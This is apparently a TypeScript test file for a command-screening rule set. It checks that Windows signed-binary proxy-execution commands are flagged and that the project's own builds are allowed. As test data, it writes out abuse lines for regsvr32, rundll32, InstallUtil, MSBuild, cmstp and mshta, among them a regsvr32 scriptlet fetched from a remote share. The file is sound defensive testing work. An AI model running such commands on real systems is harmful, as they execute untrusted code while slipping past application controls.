/**
 * .NET's signed tools made to run code (src/extract/shell-proxy-exec.ts): InstallUtil, RegAsm,
 * RegSvcs and MSBuild given a file outside the project (or InstallUtil told to log nothing);
 * regsvr32, rundll32, cmstp and mshta, with files read from code-loading switch values and
 * POSIX paths told from switches.
 * Through the real pipeline with the shell pack only; the project's own builds stay allowed.
 */
import { describe, expect, it } from 'vitest';
import { E2E_CONTEXT, packVerdict } from '../helpers/command.js';

const verdict = await packVerdict('shell');
const ASK = 'ask shell/proxy-exec';

describe('signed .NET tools running code (shell pack)', () => {
  it.each([
    [
      'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\update.dll',
      ASK,
    ],
    ['InstallUtil.exe /logfile= /LogToConsole=false bin\\Release\\Svc.exe', ASK],
    ['C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegAsm.exe /U C:\\Users\\Public\\lib.dll', ASK],
    ['regsvcs.exe C:\\ProgramData\\svc.dll', ASK],
    ['RegAsm.exe "%TEMP%\\x.dll"', ASK],
    ['C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\tasks.xml', ASK],
    ['msbuild.exe build.xml', ASK],
    ['Microsoft.Workflow.Compiler.exe run.xml results.xml', ASK],
    // the project's own solution, service and assembly; help
    ['msbuild MyApp.sln /p:Configuration=Release', 'allow'],
    ['MSBuild.exe src\\App\\App.csproj -t:Build', 'allow'],
    ['msbuild', 'allow'],
    ['InstallUtil.exe bin\\Release\\MyService.exe', 'allow'],
    ['RegAsm.exe /codebase bin\\Debug\\Interop.dll', 'allow'],
    ['InstallUtil.exe /?', 'allow'],
  ])('%s → %s', async (cmd, want) => {
    expect(await verdict(cmd)).toBe(want);
  });
});

describe("Windows' library and profile runners (shell pack)", () => {
  it.each([
    ['regsvr32 /s C:\\Users\\Public\\x.dll', ASK],
    ['rundll32.exe C:\\Users\\Public\\x.dll,Start', ASK],
    ['rundll32 "%APPDATA%\\u.dll",EntryPoint', ASK],
    ['cmstp.exe /ni /s C:\\ProgramData\\profile.inf', ASK],
    // Windows' own libraries, the project's own component
    ['rundll32 shell32.dll,Control_RunDLL desk.cpl', 'allow'],
    ['rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL', 'allow'],
    ['regsvr32 /s build\\Release\\MyComponent.dll', 'allow'],
  ])('%s → %s', async (cmd, want) => {
    expect(await verdict(cmd)).toBe(want);
  });
});

describe('switch values and POSIX paths (shell pack)', () => {
  it.each([
    // a word with a second `/` or a library's ending is a path (Git Bash), not a switch
    ['rundll32 /c/Users/Public/x.dll,Start', ASK],
    ['rundll32.exe /tmp/payload.dll,DllMain', ASK],
    ['regsvr32 /s /c/Users/Public/evil.dll', ASK],
    ['regsvr32 /s /u /x.dll', ASK],
    ['mshta /c/Users/Public/a.hta', ASK],
    ["mshta 'C:\\Users\\Public\\a.hta'", ASK],
    // the scriptlet regsvr32 /i: hands to scrobj.dll, from a share or a folder elsewhere
    [
      "regsvr32.exe /s /i:'\\\\203.0.113.5\\share\\x.sct' scrobj.dll",
      'ask shell/download-exec,shell/proxy-exec',
    ],
    ['regsvr32.exe /s /i:\\\\203.0.113.5\\share\\x.sct scrobj.dll', ASK],
    ["regsvr32 /s /n /u /i:'C:\\Users\\Public\\x.sct' scrobj.dll", ASK],
    ['regsvr32 /s /n /i:/tmp/x.sct scrobj.dll', ASK],
    // MSBuild's logger assembly runs in the build
    ["msbuild App.sln '-logger:XLog,C:\\Users\\Public\\l.dll;verbosity=diag'", ASK],
    // switches stay switches; the project's own files stay allowed
    ['regsvr32 /s /n /i:U build/Release/MyComponent.dll', 'allow'],
    ['regsvr32 /s ./build/my.dll', 'allow'],
    ['rundll32 ./build/plugin.dll,SelfTest', 'allow'],
    ['msbuild App.sln /p:OutDir=/tmp/out/ /m:4 -logger:XLog,tools/l.dll', 'allow'],
    ['regsvr32 /?', 'allow'],
  ])('%s → %s', async (cmd, want) => {
    expect(await verdict(cmd)).toBe(want);
  });
});

describe('MSBuild given a folder builds the project in it (shell pack, with a folder listing)', () => {
  /** The workspace's folders: src/App holds a project, src/Empty nothing; any other path lists as []. */
  const FOLDERS: Record<string, string[]> = {
    '/home/ana/code/site/src/App': ['App.csproj', 'Program.cs'],
    '/home/ana/code/site/src/Empty': [],
  };
  const listed = packVerdict('shell', { ...E2E_CONTEXT, listDir: (d) => FOLDERS[d] ?? [] });
  it.each([
    ['msbuild .', 'allow'],
    ['msbuild src/App', 'allow'],
    ["msbuild 'src\\App\\' -t:Build", 'allow'],
    // fail closed: a path that lists as nothing (absent, or an empty folder), or one known only at run time
    ['msbuild src/Empty', ASK],
    ['msbuild tasks', ASK],
    ['msbuild "$DIR"', ASK],
    // a folder outside the workspace is not the project's own
    ['msbuild ../other/', ASK],
  ])('%s → %s', async (cmd, want) => {
    expect((await listed)(cmd)).toBe(want);
  });
});
